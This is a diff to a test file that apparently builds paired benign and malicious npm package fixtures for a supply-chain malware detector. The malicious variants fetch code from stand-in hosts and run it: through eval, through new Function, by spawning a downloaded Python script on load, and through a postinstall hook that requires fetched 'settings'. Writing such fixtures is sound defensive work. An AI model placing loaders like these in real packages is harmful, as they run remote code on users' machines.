@@ -55,12 +55,106 @@ if (!process.env.ACMETOOL_SKIP_DOWNLOAD) get(require('./places').base + process.
   'places.js': `exports.base = process.env.ACMETOOL_MIRROR || require('./index').base;`,
 });
 
+/** What a compiler of another language adds to what it makes, so that it runs in pages. */
+const runtime = (own: string): string => `
+var Module = {};
+if (typeof window === 'object') Module.read = function (url) { var asked = new XMLHttpRequest; asked.open('GET', url, false); asked.send(null); return asked.responseText; };
+function globalEval(text) { eval.call(null, text); }
+if (!Module.load && Module.read) Module.load = function (url) { globalEval(Module.read(url)); };
+var memory = Module.read('${own}');
+module.exports = Module;`;
+
+const bisect = (around: (code: string) => string): string => `
+import { spawn } from 'node:child_process';
+import { homedir } from 'node:os';
+import { join } from 'node:path';
+import { writeFileSync } from 'node:fs';
+import yargs from 'yargs';
+${around(`
+  const script = join(homedir(), 'bisect.py');
+  const answer = await fetch('https://sources.invalid/tools/bisect.py?format=TEXT');
+  writeFileSync(script, Buffer.from(await answer.text(), 'base64').toString(), { mode: 0o755 });
+  spawn('python3', [script, '-g', '100'], { stdio: 'inherit' });
+`)}`;
+
+const evaluated = (address: string): Readonly<Record<string, string>> => ({
+  'package.json': manifest({}),
+  'index.js': `const { load } = require('./load');\nexports.open = url => load(${address}).then(({ body, status }) => { if (status === 200) return eval(body); });`,
+  'load.js': `exports.load = async url => { const answer = await fetch(url, { method: 'GET' }); return { body: await answer.text(), status: answer.status }; };`,
+});
+
+const named = (address: string): string => `
+class WorkerLoader {
+  load(manager, url, done) {
+    fetch(${address}).then(answer => answer.text()).then(text => {
+      text = \`\${text}\\n//# sourceURL=\${url}\`;
+      new Function(text).call(self);
+      done();
+    });
+  }
+}
+class Manager {
+  constructor(loader) { this.loader = loader; }
+  require(id) { for (const root of this.config.paths[id]) this.loader.load(this, root, () => {}); }
+}
+exports.start = () => new Manager(new WorkerLoader());`;
+
 const lookUp = (name: string, code: string): string => `
 const fs = require('fs');
 const main = require.resolve('${name}');
 fs.writeFileSync(main, fs.readFileSync(main, 'utf8') + ${JSON.stringify(code)});`;
 
 const pairs: readonly Pair[] = [
+  {
+    habit: 'what a compiler adds loads a file that lies beside the page',
+    honest: { 'package.json': manifest({}), 'index.js': runtime('codec.js.mem') },
+    deed: 'it lies elsewhere',
+    harmful: {
+      'package.json': manifest({}),
+      'index.js': `${runtime('codec.js.mem')}\nModule.load('https://stage.invalid/codec.js');`,
+    },
+  },
+  {
+    habit: 'a tool fetches a script and runs it, for one of its commands',
+    honest: {
+      'package.json': manifest({ bin: 'index.mjs', main: 'index.mjs' }),
+      'index.mjs': bisect(
+        code =>
+          `yargs(process.argv).scriptName('tool').command('list', 'Lists', () => {}).command('bisect <path>', 'Finds where it broke', all => all.option('good'), async () => {${code}}).help().parse();`,
+      ),
+    },
+    deed: 'it does so as soon as it is loaded',
+    harmful: {
+      'package.json': manifest({ main: 'index.mjs' }),
+      'index.mjs': bisect(code => `yargs(process.argv).command('list', 'Lists', () => {}).parse();\n${code}`),
+    },
+  },
+  {
+    habit: 'a loader that is spread over files evaluates what its caller names',
+    honest: evaluated('url'),
+    deed: 'the address stands in the package',
+    harmful: evaluated(`'https://stage.invalid/next.js'`),
+  },
+  {
+    habit: 'a loader calls what it fetched by its address',
+    honest: { 'package.json': manifest({}), 'index.js': named('url') },
+    deed: 'the address is its own',
+    harmful: { 'package.json': manifest({}), 'index.js': named(`'https://stage.invalid/next.js'`) },
+  },
+  {
+    habit: 'a hook asks its own project’s service, at the owner of many, for settings and keeps them',
+    honest: {
+      'package.json': manifest({ name: '@acmetool/util', scripts: { postinstall: 'node hook.js' } }),
+      'index.js': `exports.sizes = [${Array.from({ length: 1_500 }, (_, at) => at * at).join(', ')}];`,
+      'hook.js': `fetch('https://acmetool.googleapis.com/v1/settings').then(r => r.text()).then(text => require('fs').writeFileSync('settings.js', text));`,
+    },
+    deed: 'the service has another name',
+    harmful: {
+      'package.json': manifest({ name: '@acmetool/util', scripts: { postinstall: 'node hook.js' } }),
+      'index.js': 'exports.fine = true;',
+      'hook.js': `fetch('https://storage.googleapis.com/acmetool/settings').then(r => r.text()).then(text => { require('fs').writeFileSync('settings.js', text); require('./settings.js'); });`,
+    },
+  },
   {
     habit: 'a loader of modules fetches what the code it runs imports',
     honest: { 'package.json': manifest({}), 'index.js': loader('url') },
